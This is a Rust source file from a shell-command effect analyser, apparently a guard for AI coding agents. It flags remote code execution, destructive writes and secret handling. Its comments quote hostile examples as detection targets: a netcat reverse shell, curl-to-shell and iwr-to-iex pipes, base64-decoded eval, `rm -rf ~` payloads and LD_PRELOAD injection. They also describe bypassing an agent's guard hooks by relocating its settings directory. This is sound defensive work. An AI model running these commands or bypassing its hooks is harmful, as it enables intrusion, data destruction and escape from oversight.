//! A parsed command line read into effects: each simple command through the command model,
//! its redirections as writes, `cd` followed in the line, `find -exec`'s `{}` and `xargs`
//! bound to the paths their producer names, downloads fed to an interpreter as
//! `remote_exec`, nested code analysed in turn (bounded), and a truncated parse as `opaque`.

use std::borrow::Cow;

use gate_spec::effect::{Act, Place};

use super::flow;
use super::places::{self, Where};
use super::{programs, Cmd, Effect, RawTarget, Sink};
use crate::shell::{self, Parsed, SimpleCommand};

/// Wrappers that run their command with root privileges.
const PRIVILEGE_WRAPPERS: &[&str] = &["sudo", "doas", "pkexec", "su", "runuser", "run0"];

/// Deepest nesting of code found inside commands (`python -c "os.system('sh -c …')"`).
pub(super) const MAX_NESTING: usize = 4;

/// Programs that run code read from standard input when given no script.
const STDIN_RUNNERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "mksh",
    "ash",
    "fish",
    "csh",
    "tcsh",
    "python",
    "python2",
    "python3",
    "node",
    "perl",
    "ruby",
    "php",
    "pwsh",
    "powershell",
    "bun",
    "deno",
    "source",
    ".",
    "eval",
    "osascript",
    "lua",
    "Rscript",
    "tclsh",
];

/// Effects of a shell command line run in `at.cwd`.
pub fn effects_of_line(line: &str, at: &Where, out: &mut Vec<Effect>) {
    let parsed = shell::parse(line);
    effects_of_parsed(&parsed, line, at, 0, out);
}

/// Effects of an already parsed line (`line` is its text, for `opaque`).
pub fn effects_of_parsed(
    parsed: &Parsed<'_>,
    line: &str,
    at: &Where,
    depth: usize,
    out: &mut Vec<Effect>,
) {
    effects_after(parsed, line, at, depth, &[], out);
}

/// Effects of a parsed line run after an enclosing line wrote the files `earlier` (with
/// their text when it shows it): code nested in a command of that line (`sh -c 'sh x.sh'`,
/// `EDITOR='sh /tmp/e.sh' git commit`) runs the files the line wrote before it as they are.
fn effects_after(
    parsed: &Parsed<'_>,
    line: &str,
    at: &Where,
    depth: usize,
    earlier: &[(String, Option<String>)],
    out: &mut Vec<Effect>,
) {
    let mut cwd = at.cwd.clone();
    // The working directory of the top level, kept apart from what a `cd` inside a
    // subshell or group does (which ends with the group).
    let mut top_cwd = cwd.clone();
    let mut oldpwd: Option<String> = None;
    if parsed.truncated {
        let mut sink = Sink::default();
        sink.opaque(line);
        flush(&sink, &cwd, oldpwd.as_deref(), at, out);
    }
    if super::gate_env::changes_config(parsed) {
        let mut sink = Sink::default();
        sink.place(Act::Write, Place::Gate);
        flush(&sink, &cwd, oldpwd.as_deref(), at, out);
    }
    let commands = &parsed.commands;
    // PowerShell written where a POSIX shell was expected (`iwr URL | iex`): also read the
    // line as PowerShell, since that is what runs it where these names exist.
    let powershell = commands.iter().any(is_powershell_command);
    if powershell {
        let words = [Cow::Borrowed("-Command"), Cow::Borrowed(line)];
        let mut sink = Sink::default();
        programs::model(
            &Cmd {
                program: "pwsh",
                args: &words,
                stdin: None,
                stdin_file: None,
            },
            &mut sink,
        );
        flush(&sink, &cwd, oldpwd.as_deref(), at, out);
    }
    // The commands whose output feeds each command (pipes).
    let fed_by = |i: usize| {
        parsed
            .pipes
            .iter()
            .filter(move |(_, b)| *b == i)
            .map(|(a, _)| *a)
    };
    // Variables the line has set so far (`D=/; rm -rf $D`), and for this command only.
    let mut vars: Vec<(String, String)> = Vec::new();
    // Files the line has downloaded so far (`curl -o a.sh URL && bash a.sh`).
    let mut fetched: Vec<String> = Vec::new();
    // Files the line has written so far, with their text when the line shows it
    // (`echo 'rm -rf ~' > x.sh && bash x.sh`).
    let mut written: Vec<(String, Option<String>)> = earlier.to_vec();
    // What the line has done with secrets: read, printed, copied, carried on.
    let mut secrets = super::secrets::Line::default();
    // The commands that read gate's binary (what they write is a copy of gate).
    let mut gate_read: Vec<usize> = Vec::new();
    for (i, cmd) in commands.iter().enumerate() {
        let mut scoped = vars.clone();
        scoped.extend(cmd.env.iter().map(|(n, v)| (n.to_string(), v.to_string())));
        let program: &str = &cmd.program;
        if powershell && cmd.args.is_empty() && is_pipeline_item(program) {
            // `ForEach-Object ($_) { … }` read by a POSIX parser: `($_)` is PowerShell's
            // current item in parentheses, a value the PowerShell reading follows, not a
            // command whose name a variable computes.
            continue;
        }
        // Back at the top level, a subshell's `cd` no longer holds.
        if cmd.depth == 0 && cwd != top_cwd {
            cwd = top_cwd.clone();
        }
        // `cd` moves the rest of the line; inside a subshell or group, the rest of the
        // nested commands (where the group ends inside them is not tracked).
        if matches!(program, "cd" | "pushd") && !in_substitution(cmd) {
            let to = cmd
                .args
                .iter()
                .map(|a| &**a)
                .find(|a| !a.starts_with('-') || *a == "-");
            let next = match to {
                None => Some(at.home.clone()),
                Some("-") => oldpwd.clone(),
                // Relative to a directory that is not known: still not known.
                Some(t) if cwd.starts_with('$') && !t.starts_with(['/', '~']) => None,
                Some(t) => {
                    let r = places::resolve(t, &cwd, &at.home, oldpwd.as_deref());
                    (!r.unknown_root).then(|| r.display())
                }
            };
            oldpwd = Some(cwd.clone());
            cwd = match next {
                Some(n) => n,
                // An unresolvable `cd`: later relative paths are unknown.
                None => "$CD".to_string(),
            };
            if cmd.depth == 0 {
                top_cwd = cwd.clone();
            }
            continue;
        }
        let mut sink = Sink::default();
        let mut stdin_file = None;
        for w in &cmd.writes {
            if w.op == "<" {
                // `< <(cmd)` reads what cmd prints, not a file (cmd is a command of its own).
                if w.target != "<(…)" {
                    sink.path(Act::Read, &w.target);
                    stdin_file = Some(w.target.as_str());
                }
                continue;
            }
            let act = if w.op.contains(">>") {
                Act::Write
            } else {
                Act::Overwrite
            };
            if w.op == "<>" {
                sink.path(Act::Write, &w.target);
            } else {
                sink.path(act, &w.target);
            }
        }
        // What the program itself does starts here (before: its redirections).
        let own_from = sink.raw.len();
        let mut stdin: Option<String> = stdin_text(parsed, i);
        let mut args = bound_args(parsed, i, cmd);
        expand_operands(&mut args, commands, i, at);
        flow::known_substitutions(&mut args, commands, i, &cwd, at);
        if at.disk {
            let read = |w: &str| {
                super::disk::read_input(&places::place_of(w, &cwd, oldpwd.as_deref(), at).1)
            };
            inline_inputs(program, &mut args, &mut stdin, stdin_file, read);
        }
        if stdin.is_none() && (programs::is_shell(program) || matches!(program, "source" | ".")) {
            process_substituted_script(&mut args, &mut stdin, commands, i);
        }
        if !scoped.is_empty() && args.iter().any(|a| a.contains('$')) {
            // A line that sets `IFS` splits what its expansions give on those characters.
            let ifs = last_value(&scoped, "IFS");
            let mut out: Vec<Cow<'_, str>> = Vec::with_capacity(args.len());
            for a in args.drain(..) {
                match a.contains('$').then(|| substitute(&a, &scoped)).flatten() {
                    // A loop variable's words, one per line: each is an operand in turn.
                    Some(v) if v.contains('\n') => {
                        out.extend(v.lines().map(|l| Cow::Owned(l.to_string())))
                    }
                    Some(v) => match ifs {
                        Some(ifs) if !ifs.is_empty() => out.extend(
                            v.split(|c| ifs.contains(c))
                                .filter(|w| !w.is_empty())
                                .map(|w| Cow::Owned(w.to_string())),
                        ),
                        _ => out.push(Cow::Owned(v)),
                    },
                    None => out.push(a),
                }
            }
            args = out;
        }
        // What git's stored configuration and hooks make this command run (a live hook
        // call): its aliases go to the command model as `-c alias.NAME=VALUE`.
        let known_cwd = !cwd.starts_with('$');
        let git = (at.disk && known_cwd && program == "git" && depth < MAX_NESTING).then(|| {
            let call = programs::git_stored(&args);
            super::gitdisk::stored(&call, &cwd, at)
        });
        if let Some(stored) = git.as_ref().filter(|g| !g.aliases.is_empty()) {
            let mut with: Vec<Cow<'_, str>> = Vec::with_capacity(args.len() + 2);
            for (name, value) in &stored.aliases {
                with.push(Cow::Borrowed("-c"));
                with.push(Cow::Owned(format!("alias.{name}={value}")));
            }
            with.append(&mut args);
            args = with;
        }
        // git's user configuration moved elsewhere (`HOME=/tmp/h git …`).
        if program == "git" {
            super::code_options::git_homes(
                &scoped,
                &written,
                |d| places::place_of(d, &cwd, oldpwd.as_deref(), at),
                &mut sink,
            );
        }
        // git's settings given through the environment are its `-c` settings.
        if program == "git" && scoped.iter().any(|(n, _)| n.starts_with("GIT_CONFIG_")) {
            let settings = super::code_options::git_settings(&scoped);
            let mut with: Vec<Cow<'_, str>> = Vec::with_capacity(args.len() + 2 * settings.len());
            for kv in settings {
                with.push(Cow::Borrowed("-c"));
                with.push(Cow::Owned(kv));
            }
            with.append(&mut args);
            args = with;
        }
        // Options the program takes from its environment (`TAR_OPTIONS=… tar -x`).
        let from_env = super::code_options::option_words(program, &scoped);
        if !from_env.is_empty() {
            let mut with: Vec<Cow<'_, str>> = from_env.into_iter().map(Cow::Owned).collect();
            with.append(&mut args);
            args = with;
        }
        // Variables set here whose value something the command starts runs, sources or
        // loads (`GIT_EXTERNAL_DIFF=… git diff`, `export PAGER=…`, `LD_PRELOAD=…`).
        for (name, value) in cmd.env.iter().map(|(n, v)| (&**n, &**v)).chain(
            parsed
                .assigns
                .iter()
                .filter(|a| a.by == i)
                .map(|a| (&*a.name, &*a.value)),
        ) {
            match super::code_options::variable(name) {
                None => {}
                // A file every shell the command starts reads first: the file the line
                // wrote (analysed as its text), or one it does not show.
                Some(super::code_options::Runs::Source) => {
                    let file = places::place_of(value, &cwd, oldpwd.as_deref(), at).1;
                    match written.iter().find(|(p, _)| *p == file) {
                        Some((_, Some(code))) if depth < MAX_NESTING => sink.script(code),
                        Some(_) => sink.opaque(line),
                        None => {
                            super::code_options::variable_runs(name, value, &mut sink);
                            // Not there to read: code from where it lies.
                            sink.program(value);
                        }
                    }
                }
                // Directories searched for code by name: a module the line wrote there.
                Some(super::code_options::Runs::Dirs) => super::code_options::dirs(
                    name,
                    value,
                    &written,
                    |d| places::place_of(d, &cwd, oldpwd.as_deref(), at),
                    &mut sink,
                ),
                // A program run by a path the line wrote a script at: that script.
                Some(super::code_options::Runs::Line) => {
                    let first = value.split_whitespace().next().unwrap_or("");
                    let file = places::place_of(first, &cwd, oldpwd.as_deref(), at).1;
                    match written
                        .iter()
                        .find(|(p, _)| first.contains('/') && *p == file)
                    {
                        Some((_, Some(code))) if depth < MAX_NESTING => sink.script(code),
                        Some(_) => sink.opaque(line),
                        None => super::code_options::variable_runs(name, value, &mut sink),
                    }
                }
                // A file loaded first that the line wrote: its text, unread as code.
                Some(
                    runs @ (super::code_options::Runs::Load | super::code_options::Runs::Settings),
                ) => {
                    let file = places::place_of(value, &cwd, oldpwd.as_deref(), at).1;
                    match written.iter().find(|(p, _)| *p == file) {
                        Some((_, Some(text))) => sink.opaque(text),
                        Some(_) => sink.opaque(line),
                        None => {
                            super::code_options::variable_runs(name, value, &mut sink);
                            super::code_options::loaded_from(
                                runs,
                                value,
                                |d| places::place_of(d, &cwd, oldpwd.as_deref(), at),
                                &mut sink,
                            );
                        }
                    }
                }
                Some(runs @ super::code_options::Runs::Preload(_)) => {
                    super::code_options::variable_runs(name, value, &mut sink);
                    super::code_options::loaded_from(
                        runs,
                        value,
                        |d| places::place_of(d, &cwd, oldpwd.as_deref(), at),
                        &mut sink,
                    );
                }
                Some(_) => super::code_options::variable_runs(name, value, &mut sink),
            }
        }
        let view = Cmd {
            program,
            args: &args,
            stdin: stdin.as_deref(),
            stdin_file,
        };
        // Whether a family of the model knows the program (the generic reading of an
        // unknown one's operands, `./deploy.sh ./dist`, does not make it known).
        let mut family_known = true;
        if let Some(resolved) = computed_word(&cmd.program_path, &scoped, commands, i) {
            // The program itself is computed: run what the line set it to, if it did
            // (`g=gate; $g approve …`, `{rm,-rf,x}`), else what runs is unknown.
            match resolved {
                Some(resolved) => {
                    // The value is split into words as an unquoted expansion is.
                    let mut script = resolved;
                    if !args.is_empty() {
                        let words: Vec<&str> = args.iter().map(|a| &**a).collect();
                        script.push(' ');
                        script.push_str(&crate::shell::quote_argv(&words));
                    }
                    sink.script(&script);
                }
                // On the line, what the whole line names; in nested code (a script read
                // from the disk, `sh -c` text), what this command names: a long script's
                // every word is not this command's.
                None if depth == 0 => {
                    sink.opaque(line);
                    let word = make_variable(commands, i).unwrap_or(&cmd.program_path);
                    programs::computed(word, &args, &mut sink);
                }
                None => {
                    let words: Vec<&str> = std::iter::once(&*cmd.program_path)
                        .chain(args.iter().map(|a| &**a))
                        .collect();
                    sink.opaque(&words.join(" "));
                    let word = make_variable(commands, i).unwrap_or(&cmd.program_path);
                    programs::computed(word, &args, &mut sink);
                }
            }
        } else if !program.is_empty() {
            let known = programs::model(&view, &mut sink);
            family_known = known;
            // An owner given by substitution is the running user only when what substitutes
            // it says so (`$(id -u):$(id -g)`, `$(whoami)`).
            sink.admin_in_project &= substitutions_name_user(commands, i);
            sink.to_self_owner &= substitutions_name_user(commands, i);
            // Unknown under `sudo`/`doas`: what it destroys is the system's.
            if !known
                && cmd
                    .wrappers
                    .iter()
                    .any(|w| PRIVILEGE_WRAPPERS.contains(&&**w))
            {
                programs::model_privileged(&view, &mut sink);
            }
            // A program gate does not know, run by a path (or by a name, given one of gate's
            // subcommands), that is the running gate: its subcommands are gate's.
            if !known
                && super::identity::runs_gate(
                    &cmd.program_path,
                    args.iter().map(|a| &**a).find(|a| !a.starts_with('-')),
                    &cwd,
                    at,
                )
            {
                programs::model(
                    &Cmd {
                        program: "gate",
                        ..view
                    },
                    &mut sink,
                );
            }
        }
        // An agent CLI (or gate) started with its settings moved away (`CODEX_HOME=/tmp/c
        // codex exec …`, `HOME=/tmp/h claude -p …`) runs without the hooks that guard it.
        if (programs::is_agent(program) || program == "gate")
            && scoped
                .iter()
                .any(|(n, v)| super::gate_env::moves_settings(n, v, &cwd, at))
        {
            sink.place(Act::Write, Place::Gate);
        }
        // What the command runs that is text on the disk, read now (a live hook call).
        if at.disk && known_cwd {
            // A program named by its path that the model does not know (`./run.sh`,
            // `bin/deploy`): the file is what runs. A system program is not read.
            let unknown = !family_known
                || sink.raw[own_from..] == [(Act::Exec, RawTarget::Place(Place::Nowhere))];
            if unknown && cmd.program_path.contains('/') {
                let (place, _) = places::place_of(&cmd.program_path, &cwd, oldpwd.as_deref(), at);
                if place != Place::System {
                    sink.runs(super::Runs::File {
                        path: cmd.program_path.to_string(),
                        how: super::How::Program,
                        args: args.iter().map(|a| a.to_string()).collect(),
                        optional: false,
                    });
                }
            }
            // A shell fed a file it cannot read (`sh < gone.sh`).
            if stdin.is_none()
                && stdin_file.is_some()
                && runs_stdin(cmd)
                && programs::is_shell(program)
            {
                sink.opaque(stdin_file.unwrap_or_default());
            }
            // The file the line wrote with text it shows and this command runs as a script:
            // that text is analysed below ("A file the line wrote"), not what is on the disk.
            let shown_run: Option<String> = {
                let spot = |w: &str| places::place_of(w, &cwd, oldpwd.as_deref(), at).1;
                let paths: Vec<String> = written
                    .iter()
                    .filter(|(_, t)| t.is_some())
                    .map(|(p, _)| p.clone())
                    .collect();
                runs_one_of(cmd, &args, &paths, spot).map(|i| paths[i].clone())
            };
            let earlier = |p: &str| -> super::runs::Earlier {
                use super::runs::Earlier;
                if shown_run.as_deref() == Some(p) {
                    return Earlier::Shown;
                }
                let changes = |a: Act| {
                    matches!(
                        a,
                        Act::Write | Act::Overwrite | Act::Delete | Act::Move | Act::Link
                    )
                };
                // Written once, with text the line shows, and changed no other way.
                let writes = out
                    .iter()
                    .filter(|e| changes(e.act) && e.target == p)
                    .count();
                if let Some((_, Some(text))) = written.iter().find(|(w, _)| w == p) {
                    if writes <= 1 && !fetched.iter().any(|f| f == p) {
                        return Earlier::Wrote(text.clone());
                    }
                }
                // A git command's own write of the repository's metadata (`git add`, `git
                // stash`, `git checkout -b`: a `write` at `.git` itself) changes its index,
                // refs and objects, not the hooks and configuration kept there; anything that
                // puts files into it names them, or overwrites it.
                // So does its write of the work tree (`git pull`, `git merge`: a `write` at the
                // directory that holds `.git`), which never reaches into `.git`.
                let metadata = |e: &Effect| {
                    e.act == Act::Write
                        && (e.target.ends_with("/.git")
                            || p.strip_prefix(e.target.as_str())
                                .is_some_and(|r| r.starts_with("/.git/")))
                };
                let changed = written.iter().any(|(w, _)| w == p)
                    || fetched.iter().any(|f| f == p)
                    || out.iter().any(|e| {
                        changes(e.act)
                            && !e.target.is_empty()
                            && (e.target == p
                                || (!metadata(e)
                                    && p.strip_prefix(e.target.as_str())
                                        .is_some_and(|r| r.starts_with('/'))))
                    });
                if changed {
                    Earlier::Changed
                } else {
                    Earlier::Unchanged
                }
            };
            // git's configuration changed earlier in the line in a way it does not show
            // (`>> .git/config`): what git runs now is not what is on the disk.
            if git.is_some()
                && written.iter().any(|(p, _)| {
                    GIT_CONFIG_FILES.iter().any(|f| {
                        p.ends_with(f)
                            && (*f == GIT_CONFIG_FILES[0] || p.starts_with(at.home.as_str()))
                    })
                })
            {
                sink.opaque(line);
            }
            if let Some(stored) = git {
                sink.scripts_in.extend(stored.scripts);
                for u in &stored.unknown {
                    sink.opaque(u);
                }
                for (hook, dir) in &stored.hooks {
                    super::runs::file(
                        hook,
                        super::How::Program,
                        &[],
                        true,
                        dir,
                        &earlier,
                        &mut sink,
                    );
                }
            }
            if !sink.runs.is_empty() && depth < MAX_NESTING {
                let runs = std::mem::take(&mut sink.runs);
                super::runs::read(&runs, &cwd, oldpwd.as_deref(), at, &earlier, &mut sink);
            } else if !sink.runs.is_empty() {
                sink.opaque(line);
            }
        }
        // A package runner handed a URL or a repository instead of a registry's package
        // (`npx https://x/pkg.tgz`, `npx github:u/r`, `uvx git+https://…`) runs code fetched
        // from there, as `curl URL | sh` does.
        if cmd
            .wrappers
            .iter()
            .any(|w| flow::PACKAGE_RUNNERS.contains(&w.as_str()))
            && flow::names_code_source(&cmd.program_path)
        {
            sink.none(Act::RemoteExec);
        }
        // A command with no operands of its own under xargs/parallel acts on what its
        // producer names.
        if cmd.wrappers.iter().any(|w| w == "xargs" || w == "parallel") {
            let producers: Vec<usize> = fed_by(i).collect();
            let mut named = Vec::new();
            for p in producers {
                let paths = producer_paths(&commands[p]);
                if !paths.is_empty() {
                    named.extend(paths);
                    continue;
                }
                // A name filter between (`git ls-files -o | grep '\.orig$' | xargs rm`):
                // the files of that name below what its own producer names.
                if let Some(suffix) = flow::name_suffix_filter(&commands[p]) {
                    for q in fed_by(p) {
                        for base in producer_paths(&commands[q]) {
                            named.push(format!("{}/**/*{suffix}", base.trim_end_matches('/')));
                        }
                    }
                }
            }
            // `xargs rm -rf <<< ~`: the words it reads are on the line.
            if let Some(text) = &cmd.stdin {
                named.extend(text.split_whitespace().map(str::to_string));
            }
            // `xargs -0 rm < <(printf '%s\0' DIR)`: what the process substitution prints.
            if named.is_empty() && cmd.writes.iter().any(|w| w.target == "<(…)") {
                if let Some(p) = commands[..i]
                    .iter()
                    .rev()
                    .take_while(|c| c.wrappers.iter().any(|w| w == "<()"))
                    .last()
                {
                    named.extend(producer_paths(p).into_iter().filter(|w| !w.contains('%')));
                }
            }
            let acts: Vec<Act> = sink.raw[own_from..]
                .iter()
                .map(|(a, _)| *a)
                .filter(|a| is_path_act(*a))
                .collect();
            let acts = if acts.is_empty() {
                // The program's model saw no operand: ask it again with the producer's paths
                // (or, when the words come from where the line does not show, such as
                // `xargs -a FILE`, with an operand that stands for them).
                let mut again = Sink::default();
                // The pipeline that feeds it, first stage first: a producer of process ids
                // (`lsof -ti:3000 | xargs kill`) stands for the ids it selects, as the same
                // pipeline in a substitution does; any other producer for a list the line
                // does not show (`ps ux | grep x | awk '{print $2}' | xargs kill`, as `kill
                // $(…)`).
                let mut chain = Vec::new();
                let mut stage = i;
                while let Some(p) = fed_by(stage).next().filter(|_| chain.len() < 16) {
                    chain.push(p);
                    stage = p;
                }
                chain.reverse();
                let pids = super::producers::pipeline(
                    chain
                        .iter()
                        .map(|&p| (&*commands[p].program, commands[p].args.as_slice())),
                );
                let unseen = match pids {
                    Some(pid) => [Cow::Owned(pid)],
                    None if !chain.is_empty() => [Cow::Borrowed("$(…)")],
                    None => [Cow::Borrowed("$XARGS_INPUT")],
                };
                let fill: Vec<Cow<'_, str>> = if named.is_empty() {
                    unseen.to_vec()
                } else {
                    named.iter().map(|n| Cow::Owned(n.clone())).collect()
                };
                let extra: Vec<Cow<'_, str>> =
                    args.iter().cloned().chain(fill.iter().cloned()).collect();
                let probe = Cmd {
                    args: &extra,
                    ..view
                };
                programs::model(&probe, &mut again);
                // What the words make of the command beyond paths (`redis-cli DEL` of every
                // key an enumeration listed destroys the database).
                for (act, target) in &again.raw {
                    if !is_path_act(*act) && !sink.raw.iter().any(|(a, _)| a == act) {
                        sink.raw.push((*act, target.clone()));
                    }
                }
                // A path the program derives without the words it is handed (`xargs curl
                // -O` saves into the directory it runs in) is that path; one made of them
                // is where the words lead, which the line does not show.
                let made_of_input = |t: &RawTarget| match t {
                    RawTarget::Path(p) => fill.iter().any(|f| p.contains(&**f)),
                    _ => true,
                };
                for (act, target) in &again.raw {
                    if is_path_act(*act) && !made_of_input(target) {
                        sink.raw.push((*act, target.clone()));
                    }
                }
                again
                    .raw
                    .iter()
                    .filter(|(a, t)| is_path_act(*a) && made_of_input(t))
                    .map(|(a, _)| *a)
                    .collect()
            } else {
                acts
            };
            for act in acts {
                if named.is_empty() {
                    sink.place(act, Place::Unknown);
                }
                for n in &named {
                    sink.path(act, n);
                }
            }
        }
        // A shell or interpreter running what a pipe feeds it: code the parser did not see
        // on the line (it reads `echo CODE | sh` itself) is analysed when the line decodes
        // it, and is `opaque` when it cannot be read (`cat x | sh`, `decrypt | bash`).
        if runs_stdin(cmd) && fed_by(i).next().is_some() {
            let echoed = fed_by(i).all(|p| {
                let p = &commands[p];
                matches!(&*p.program, "echo" | "printf")
                    || (p.program == "cat" && p.args.is_empty() && p.stdin.is_some())
            });
            if !echoed {
                match &stdin {
                    Some(code) if depth < MAX_NESTING => sink.script(code),
                    _ => sink.opaque(line),
                }
            }
        }
        // A file the line wrote, run by this command: its text is analysed as the code it is,
        // or is `opaque` when the line does not show it.
        if !written.is_empty() {
            let spot = |w: &str| places::place_of(w, &cwd, oldpwd.as_deref(), at).1;
            let paths: Vec<String> = written.iter().map(|(p, _)| p.clone()).collect();
            if let Some(ran) = runs_one_of(cmd, &args, &paths, spot) {
                // Run as a program, its `#!` line says what reads it; handed to a runner,
                // the runner does.
                let by_path =
                    cmd.program_path.contains('/') && spot(&cmd.program_path) == written[ran].0;
                match written[ran].1.as_deref() {
                    Some(code) if depth < MAX_NESTING => {
                        let what = if by_path {
                            super::runs::shebang(code)
                        } else {
                            super::runs::code_of_program(program)
                        };
                        match what {
                            super::runs::Code::Lang(lang) => {
                                programs::analyse_code(code, lang, &mut sink);
                            }
                            super::runs::Code::Unknown if by_path => sink.opaque(code),
                            _ => sink.script(code),
                        }
                    }
                    _ => sink.opaque(line),
                }
            }
        }
        // A task runner whose task file the line wrote: that text is what it runs.
        if let Some((_, files, code)) = super::runs::TASK_FILES
            .iter()
            .find(|(programs, ..)| programs.contains(&program))
        {
            for f in *files {
                let path = places::place_of(f, &cwd, oldpwd.as_deref(), at).1;
                match written.iter().find(|(p, _)| *p == path) {
                    None => {}
                    Some((_, Some(text))) if depth < MAX_NESTING => match code {
                        super::runs::Code::Shell => sink.script(text),
                        super::runs::Code::Lang(lang) => {
                            programs::analyse_code(text, *lang, &mut sink);
                        }
                        super::runs::Code::Unknown => sink.opaque(text),
                    },
                    Some(_) => sink.opaque(line),
                }
            }
        }
        // A shell reading its standard input whose output a pipe carries to the network
        // (`cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f`): a shell handed to the network.
        if runs_stdin(cmd) && programs::is_shell(program) && pipes_to_network(parsed, i) {
            sink.none(Act::RemoteExec);
        }
        // A file the line downloaded, run by this command, is remote code.
        if !fetched.is_empty() {
            let spot = |w: &str| places::place_of(w, &cwd, oldpwd.as_deref(), at).1;
            if runs_one_of(cmd, &args, &fetched, spot).is_some() {
                sink.none(Act::RemoteExec);
            }
        }
        // A download fed to an interpreter runs remote code.
        if sink.raw.iter().any(|(a, _)| *a == Act::Fetch) {
            for (act, target) in &sink.raw {
                if let (Act::Write | Act::Overwrite, RawTarget::Path(p)) = (act, target) {
                    if fetched.len() < MAX_FETCHED {
                        fetched.push(places::place_of(p, &cwd, oldpwd.as_deref(), at).1);
                    }
                }
            }
            let runs_it = piped_into_runner(parsed, i)
                || (in_substitution(cmd) && commands.iter().any(runs_substituted_code));
            if runs_it {
                sink.none(Act::RemoteExec);
            }
        }
        // Decoded text substituted into code (`eval "$(echo cm0g… | base64 -d)"`,
        // `bash -c "$(… | base64 --decode)"`): analysed as the pipe-to-shell form is.
        if in_substitution(cmd) && commands.iter().any(runs_substituted_code) {
            if let Some(code) = decoded_output(parsed, i) {
                if depth < MAX_NESTING {
                    sink.script(&code);
                } else {
                    sink.opaque(line);
                }
            }
        }
        // Text written where something later runs or obeys it (`>> ~/.bashrc`, `| tee -a
        // ~/.npmrc`).
        if !cmd.writes.is_empty() || program == "tee" {
            flow::later_text(
                cmd,
                &args,
                stdin.as_deref(),
                &cwd,
                oldpwd.as_deref(),
                at,
                depth,
                &mut sink,
            );
        }
        // What this command writes to files by redirection, with the text when it is shown.
        if written.len() < MAX_FETCHED {
            let shown = printed(cmd, stdin.as_deref());
            for w in cmd.writes.iter().filter(|w| w.op != "<" && w.op != "<>") {
                let path = places::place_of(&w.target, &cwd, oldpwd.as_deref(), at).1;
                let text = shown.clone().filter(|_| !w.op.contains(">>"));
                written.retain(|(p, _)| *p != path);
                written.push((path, text));
            }
            // `… | tee run.sh`: each file gets what the pipe carries (all of it, unless `-a`).
            if program == "tee" {
                let append = args.iter().any(|a| {
                    a == "--append"
                        || (a.starts_with('-') && !a.starts_with("--") && a.contains('a'))
                });
                for f in args.iter().filter(|a| !a.starts_with('-')) {
                    let path = places::place_of(f, &cwd, oldpwd.as_deref(), at).1;
                    let text = stdin.clone().filter(|_| !append).map(|t| t.to_string());
                    written.retain(|(p, _)| *p != path);
                    written.push((path, text));
                }
            }
        }
        let before = out.len();
        flush(&sink, &cwd, oldpwd.as_deref(), at, out);
        secrets.after(parsed, i, (&cwd, oldpwd.as_deref(), at), before, out);
        super::identity::copies(parsed, i, &mut gate_read, before, out);
        for a in parsed.assigns.iter().filter(|a| a.by == i) {
            let known = (a.value == "$(…)")
                .then(|| flow::known_assignment(commands, i, &cwd, at))
                .flatten();
            let value = known
                .or_else(|| substitute(&a.value, &vars))
                .unwrap_or_else(|| a.value.to_string());
            if value.len() <= MAX_VALUE {
                vars.retain(|(n, _)| n != &*a.name);
                vars.push((a.name.to_string(), value));
            }
        }
        if depth < MAX_NESTING {
            for script in &sink.scripts {
                let inner = Where {
                    cwd: cwd.clone(),
                    ..at.clone()
                };
                let parsed = shell::parse(script);
                effects_after(&parsed, script, &inner, depth + 1, &written, out);
            }
            // Code read from the disk, run where its program runs it.
            for (dir, script) in &sink.scripts_in {
                let inner = Where {
                    cwd: dir.clone(),
                    ..at.clone()
                };
                let parsed = shell::parse(script);
                effects_after(&parsed, script, &inner, depth + 1, &written, out);
            }
            let remote = sink.remote.iter().map(|s| (s, remote_where()));
            let contained = sink.contained.iter().map(|s| (s, container_where()));
            for (script, there_at) in remote.chain(contained) {
                let mut there = Vec::new();
                let parsed = shell::parse(script);
                effects_of_parsed(&parsed, script, &there_at, depth + 1, &mut there);
                out.extend(there.into_iter().map(|e| Effect {
                    place: remote_place(e.place),
                    ..e
                }));
            }
        } else if !sink.scripts.is_empty()
            || !sink.remote.is_empty()
            || !sink.contained.is_empty()
            || !sink.scripts_in.is_empty()
        {
            let mut deep = Sink::default();
            deep.opaque(line);
            flush(&deep, &cwd, oldpwd.as_deref(), at, out);
        }
    }
    dedup(out);
}

/// The program a computed command word names when it is a lookup of one
/// (`"$(command -v gate)" approve …`, `` `which rm` -rf ~ ``): the looked-up name, from the
/// substitution's own command, which the parser lists before the command that uses it.
fn located_program(commands: &[SimpleCommand<'_>], i: usize) -> Option<String> {
    commands[..i].iter().rev().take(4).find_map(|c| {
        if !in_substitution(c) {
            return None;
        }
        let words: Vec<&str> = c.args.iter().map(|a| &**a).collect();
        let name = match (&*c.program, words.as_slice()) {
            ("command", ["-v" | "-V", name]) => name,
            ("which" | "whence" | "whereis", [.., name]) => name,
            ("type", [flag, name]) if flag.starts_with("-") => name,
            ("readlink" | "realpath", [.., name]) if name.contains('/') => name,
            // Printed words (`$(echo rm) -rf ~`, `` `printf rm` ``), escapes made real.
            ("echo", [first, ..]) if !first.starts_with('-') || words.len() > 1 => {
                let printed: Vec<&str> = words
                    .iter()
                    .copied()
                    .skip_while(|w| w.starts_with('-'))
                    .collect();
                return Some(unescape(&printed.join(" ")));
            }
            ("printf", [format]) if !format.contains('%') => return Some(unescape(format)),
            _ => return None,
        };
        Some(name.rsplit('/').next().unwrap_or(name).to_string())
    })
}

/// A command word `$(NAME)` as a Makefile writes a variable (`$(PYTHON) manage.py …`): the
/// substitution's own command, which the parser lists before the command that uses it, is
/// the bare upper-case `NAME`. Read by its name, as `$NAME` would be.
fn make_variable<'c>(commands: &'c [SimpleCommand<'_>], i: usize) -> Option<&'c str> {
    if !commands[i].program_path.starts_with("$(") {
        return None;
    }
    let c = commands[..i].last()?;
    let upper = !c.program.is_empty()
        && c.program
            .bytes()
            .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_');
    (in_substitution(c) && c.args.is_empty() && upper).then_some(&*c.program)
}

/// What a command word the shell computes stands for: `None` when it is written plainly;
/// `Some(Some(text))`, the words it makes, as a line to read (`$cmd`, `r$x`, `${g}`,
/// `"$(command -v gate)"`, `{rm,-rf,x}`, split on the line's `IFS`); `Some(None)` when what
/// runs is not known (a substitution the line cannot evaluate, an operation on a variable,
/// `${x//,/ }`, a glob that the file system resolves, `/???/r?`).
fn computed_word(
    word: &str,
    vars: &[(String, String)],
    commands: &[SimpleCommand<'_>],
    i: usize,
) -> Option<Option<String>> {
    if matches!(word, "[" | "[[") {
        return None;
    }
